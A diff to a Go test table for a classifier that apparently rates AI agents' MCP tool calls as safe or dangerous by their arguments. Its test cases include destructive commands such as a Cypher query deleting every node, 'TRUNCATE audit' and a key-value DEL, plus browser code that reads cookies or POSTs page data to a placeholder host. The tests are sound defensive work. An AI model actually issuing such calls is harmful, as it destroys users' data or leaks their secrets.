@@ -84,6 +84,12 @@ func TestToolEffectInArguments(t *testing.T) {
 		{"mcp__supabase__execute_sql", `{"project_id":"p","query":"SELECT 1"}`, Green, ""},
 		{"mcp__acme__run_report", `{"query":"TRUNCATE audit"}`, Red, ""},
 		{"mcp__search__web_search", `{"query":"how to drop a table in postgres"}`, Green, "tool-read"},
+		{"mcp__search__search", `{"query":"DELETE button not working"}`, Green, "tool-read"},
+		{"mcp__search__search", `{"query":"delete"}`, Green, "tool-read"},
+		// A query in a language no rule reads, by its keywords.
+		{"mcp__neo4j__write_neo4j_cypher", `{"query":"MATCH (n) DETACH DELETE n"}`, Red, "tool-destructive"},
+		{"mcp__neo4j__read_neo4j_cypher", `{"query":"MATCH (n) RETURN n LIMIT 5"}`, Green, "tool-read"},
+		{"mcp__kv__execute", `{"command":"DEL session:1"}`, Red, "tool-destructive"},
 		// A browser's code, its actions.
 		{"mcp__playwright__browser_evaluate", `{"function":"() => document.cookie"}`, Red, "tool-secret"},
 		{"mcp__playwright__browser_evaluate", `{"function":"() => fetch('https://x.example', {method: 'POST', body: document.title})"}`, Red, ""},
